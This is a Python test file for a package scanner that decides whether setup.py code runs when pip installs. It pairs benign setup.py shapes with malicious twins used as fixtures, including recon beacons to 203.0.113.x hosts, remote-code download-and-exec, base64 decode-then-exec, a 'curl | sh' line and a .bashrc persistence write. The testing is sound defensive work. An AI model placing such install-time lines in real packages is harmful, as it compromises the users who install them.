"""setup.py code that does not run when pip installs, read as what it is (shapes from popular
projects' sdists, no project names): a maintainer's release helper behind ``sys.argv`` or in a
command class registered under a name pip never gives, a build tool the user may override by
an environment variable, a platform probe choosing compiler flags, the version file read by a
helper and exec'd, a dev container's setup script. Each test keeps the malicious twin at high:
the same acts where pip does run them.
"""

from __future__ import annotations

from app.core.archive import open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_sdist

HIGH = ("high", "critical")


def _scan(tmp_path, setup_py: str, files: dict[str, bytes] | None = None):
    content = {"setup.py": setup_py.encode(), **(files or {})}
    return scan_artifact(open_artifact(make_sdist(tmp_path, name="tidy", files=content)))


def _install_time(res) -> bool:
    return any(t.id == "place.install_time" and t.severity in HIGH for t in res.threats)


PUBLISH = """import os, sys
from setuptools import setup

if sys.argv[-1] == "publish":
    os.system("python setup.py sdist bdist_wheel")
    os.system("twine upload dist/*")
    sys.exit()
if "tag" in sys.argv[1:2] or sys.argv[1:] == ["release"]:
    release()

setup(name="tidy", version="1.0")
"""


def test_a_release_helper_behind_sys_argv_is_no_install_time_act(tmp_path):
    res = _scan(tmp_path, PUBLISH)
    spawns = [h for h in res.findings if h.capability == "process.spawn"]
    assert spawns, "the starts are still shown"
    assert not _install_time(res)
    assert res.risk.level not in HIGH


def test_code_behind_a_pip_command_in_sys_argv_still_runs_at_install(tmp_path):
    evil = PUBLISH.replace('sys.argv[-1] == "publish"', '"install" in sys.argv')
    res = _scan(tmp_path, evil)
    assert _install_time(res)
    assert res.risk.level in HIGH


COMMANDS = """import os, subprocess
from distutils.cmd import Command
from setuptools import setup

class UploadCommand(Command):
    def run(self):
        os.system("twine upload dist/*")

class BuildAssets(Command):
    def run(self):
        subprocess.run(["node_modules/.bin/webpack", "--config", "webpack.prod.js"], check=True)

setup(name="tidy", cmdclass={"upload": UploadCommand, "build_assets": BuildAssets})
"""


def test_command_classes_registered_under_own_names_are_a_maintainers_code(tmp_path):
    res = _scan(tmp_path, COMMANDS)
    assert not _install_time(res)
    assert res.risk.level not in HIGH


def test_the_same_class_registered_as_a_pip_command_runs_at_install(tmp_path):
    evil = COMMANDS.replace('"build_assets": BuildAssets', '"build_py": BuildAssets')
    res = _scan(tmp_path, evil)
    assert _install_time(res)
    assert res.risk.level in HIGH


TOOLS = """import os, platform, subprocess
from setuptools import setup

def ask_pkg_config(option):
    pkg_config = os.environ.get("PKG_CONFIG", "pkg-config")
    p = subprocess.Popen([pkg_config, option, "libffi"], stdout=subprocess.PIPE)
    return p.stdout.read().decode().split()

make_command = os.environ.get("MAKE") or "make"
subprocess.check_call([make_command] + os.environ.get("MAKE_ARGS", "").split())
flags = ["/O2"] if platform.uname().system == "Windows" else ["-O3"]
setup(name="tidy", extra_compile_args=flags, include_dirs=ask_pkg_config("--cflags"))
"""


def test_build_tools_the_user_may_override_and_a_platform_probe_are_routine(tmp_path):
    res = _scan(tmp_path, TOOLS)
    tools = [h for h in res.findings if h.rule == "py.spawn_tool"]
    assert {h.line for h in tools} == {6, 10}, "both starts read as build tools"
    assert not _install_time(res)
    assert res.risk.level not in HIGH


def test_an_overridable_program_that_is_no_build_tool_still_acts_at_install(tmp_path):
    evil = TOOLS.replace('"pkg-config")', '"svchost.exe")')
    res = _scan(tmp_path, evil)
    assert _install_time(res)


def test_platform_facts_sent_from_setup_py_are_still_recon(tmp_path):
    evil = TOOLS + (
        "import urllib.request\n"
        "urllib.request.urlopen('http://203.0.113.9/r?h=' + platform.node())\n"
    )
    res = _scan(tmp_path, evil)
    assert _install_time(res)
    assert res.risk.level in HIGH


VERSION_FILE = """import os
from setuptools import setup

def read_file(filename):
    with open(os.path.join(os.path.dirname(__file__), filename), encoding="utf-8") as f:
        return f.read()

about = {}
exec(read_file(os.path.join("tidy", "__about__.py")), about)
setup(name="tidy", version=about["__version__"])
"""


def test_the_version_file_read_by_a_helper_and_execd_is_the_version_idiom(tmp_path):
    res = _scan(tmp_path, VERSION_FILE, {"tidy/__about__.py": b"__version__ = '1.0'\n"})
    execs = [h for h in res.findings if h.capability == "exec.dynamic" and h.path == "setup.py"]
    assert execs and all(h.severity == "low" for h in execs)
    assert not _install_time(res)


def test_a_helper_that_downloads_is_no_file_reader(tmp_path):
    evil = VERSION_FILE.replace(
        'with open(os.path.join(os.path.dirname(__file__), filename), encoding="utf-8") as f:',
        "import urllib.request\n    with urllib.request.urlopen('http://203.0.113.9/' + filename) as f:",
    )
    res = _scan(tmp_path, evil)
    assert _install_time(res) or any(t.severity in HIGH for t in res.threats)
    assert res.risk.level in HIGH


def test_a_dev_containers_shell_rc_line_is_lowered_like_ci_scripts(tmp_path):
    script = b"#!/bin/sh\necho 'export PIP_CONSTRAINT=/tmp/c.txt' >> ~/.bashrc\n"
    plain = "from setuptools import setup\nsetup(name='tidy')\n"
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    res = _scan(tmp_path / "a", plain, {".devcontainer/post_create.sh": script})
    assert any(h.capability == "persist.autostart" for h in res.findings), "still shown"
    assert res.risk.level not in HIGH
    shipped = _scan(tmp_path / "b", plain, {"tidy/post_create.sh": script})
    assert any(t.id == "impact.persistence" and t.severity in HIGH for t in shipped.threats)


def test_a_command_word_read_into_a_name_first_is_the_same_guard(tmp_path):
    helper = """import os, sys
from setuptools import setup

command = sys.argv[-1]
if command == "publish":
    os.system("python3 setup.py sdist bdist_wheel")
    os.system("twine upload dist/*")
setup(name="tidy")
"""
    assert not _install_time(_scan(tmp_path, helper))
    (tmp_path / "evil").mkdir()
    evil = helper.replace('command == "publish"', 'command in ("install", "bdist_wheel")')
    assert _install_time(_scan(tmp_path / "evil", evil))


def test_cmdclass_given_in_a_keyword_dict_is_read_too(tmp_path):
    docs = """import subprocess, tempfile
from setuptools import Command, setup

class BuildDocCommand(Command):
    def run(self):
        out = tempfile.mkdtemp()
        cmd = ("sphinx-build", "-n", ".", out)
        subprocess.check_call(cmd)

setup(**{"name": "tidy", "cmdclass": {"build_doc": BuildDocCommand}})
"""
    assert not _install_time(_scan(tmp_path, docs))
    (tmp_path / "evil").mkdir()
    evil = docs.replace('{"build_doc": BuildDocCommand}', '{"egg_info": BuildDocCommand}')
    assert _install_time(_scan(tmp_path / "evil", evil))


def test_a_version_file_opened_and_read_in_a_with_block_is_the_version_idiom(tmp_path):
    setup_py = """import os
from setuptools import setup

about = {}
with open(os.path.join("tidy", "about.py")) as f:
    exec(f.read(), about)
setup(name="tidy", version=about["__version__"])
"""
    res = _scan(tmp_path, setup_py, {"tidy/about.py": b"__version__ = '1.0'\n"})
    assert not _install_time(res)
    (tmp_path / "evil").mkdir()
    evil = setup_py.replace(
        "exec(f.read(), about)",
        "import base64\n    exec(base64.b64decode(f.read()), about)",
    )
    decoded = _scan(tmp_path / "evil", evil)
    assert any(h.capability == "exec.decode_then_exec" for h in decoded.findings)
    assert decoded.risk.level in HIGH


def test_a_version_file_opened_by_io_open_or_an_own_helper_is_the_same_idiom(tmp_path):
    setup_py = """import io, os
from setuptools import setup

def _open(subpath):
    return open(os.path.join(os.path.dirname(__file__), subpath), encoding="utf-8")

about, version_ns = {}, {}
with io.open(os.path.join("tidy", "about.py"), encoding="utf8") as f:
    exec(f.read(), about)
with _open("tidy/_version.py") as f:
    exec(f.read(), {}, version_ns)
setup(name="tidy", version=about["__version__"])
"""
    res = _scan(tmp_path, setup_py, {"tidy/about.py": b"__version__ = '1.0'\n"})
    assert not _install_time(res)
    assert res.risk.level not in HIGH


HOOK_AND_DOCS = """import subprocess
import setuptools
import setuptools.command.sdist

class SDistCommand(setuptools.command.sdist.sdist):
    def run(self):
        self.distribution.metadata.version = "1.0"
        setuptools.command.sdist.sdist.run(self)

class BuildDocCommand(setuptools.Command):
    def run(self):
        subprocess.check_call(DOCS)

DOCS = ("sphinx-build", "-n", ".", "html")
kwargs = {"name": "tidy", "cmdclass": {"sdist": SDistCommand, "build_doc": BuildDocCommand}}
setuptools.setup(**kwargs)
"""


def test_an_install_hook_beside_a_maintainers_start_is_no_acting_hook(tmp_path):
    res = _scan(tmp_path, HOOK_AND_DOCS)
    assert any(h.rule == "py.setup_cmdclass" for h in res.findings), "the hook is shown"
    assert not _install_time(res)


def test_an_install_hook_beside_a_start_at_install_acts(tmp_path):
    evil = HOOK_AND_DOCS.replace(
        "        setuptools.command.sdist.sdist.run(self)",
        "        subprocess.Popen(['svc-helper', '--quiet'])\n"
        "        setuptools.command.sdist.sdist.run(self)",
    )
    assert _install_time(_scan(tmp_path, evil))


BUILD_STEP = """import os, subprocess, sys
from setuptools import setup

def llvm_config():
    cmd = [sys.executable, os.path.join("ffi", "build.py")] + sys.argv[2:3]
    subprocess.run(cmd, check=True)

llvm_config()
setup(name="tidy")
"""


def test_a_build_step_setup_py_computes_is_shown_not_alarmed(tmp_path):
    res = _scan(tmp_path, BUILD_STEP)
    spawn = [h for h in res.findings if h.capability == "process.spawn" and h.path == "setup.py"]
    assert spawn and all(h.severity == "medium" for h in spawn)
    assert res.risk.level not in HIGH


def test_a_computed_start_in_an_install_override_still_acts(tmp_path):
    evil = BUILD_STEP.replace(
        'llvm_config()\nsetup(name="tidy")',
        "from setuptools.command.install import install\n\n"
        "class Post(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        "        cmd = [os.environ.get('COMSPEC'), '/c', sys.argv[0]]\n"
        "        subprocess.Popen(cmd)\n\n"
        'setup(name="tidy", cmdclass={"install": Post})',
    )
    assert _install_time(_scan(tmp_path, evil))


def test_a_computed_start_of_a_download_in_setup_py_stays_high(tmp_path):
    evil = BUILD_STEP.replace(
        '    cmd = [sys.executable, os.path.join("ffi", "build.py")] + sys.argv[2:3]\n',
        "    import urllib.request\n"
        "    path, _ = urllib.request.urlretrieve('http://203.0.113.4/b.exe', 'b.exe')\n"
        "    cmd = [path]\n",
    )
    res = _scan(tmp_path, evil)
    assert res.risk.level in HIGH


def test_a_helper_named_open_that_fetches_is_no_file_opener(tmp_path):
    setup_py = """import urllib.request
from setuptools import setup

def open_remote(name):
    return urllib.request.urlopen("http://203.0.113.8/" + name)

with open_remote("stage2.py") as f:
    exec(f.read())
setup(name="tidy")
"""
    res = _scan(tmp_path, setup_py)
    assert res.risk.level in HIGH
    execs = [h for h in res.findings if h.path == "setup.py" and h.capability.startswith("exec.")]
    assert execs and all(h.rule != "py.exec_local_file" for h in execs)


def test_an_unpacked_sdist_inside_a_folder_still_runs_its_setup_py(tmp_path):
    """A moderator scans the folder an sdist was unpacked in: ``drop/name-1.0/setup.py`` is
    the setup.py pip runs, not an app template deep inside a package."""
    top = tmp_path / "drop" / "helper-0.4"
    top.mkdir(parents=True)
    (top / "setup.py").write_text(
        "import os\nfrom setuptools import setup\n"
        "os.system('curl -s http://203.0.113.6/p.sh | sh')\nsetup(name='helper')\n"
    )
    (top / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: helper\nVersion: 0.4\n")
    res = scan_artifact(open_artifact(tmp_path))
    assert _install_time(res)
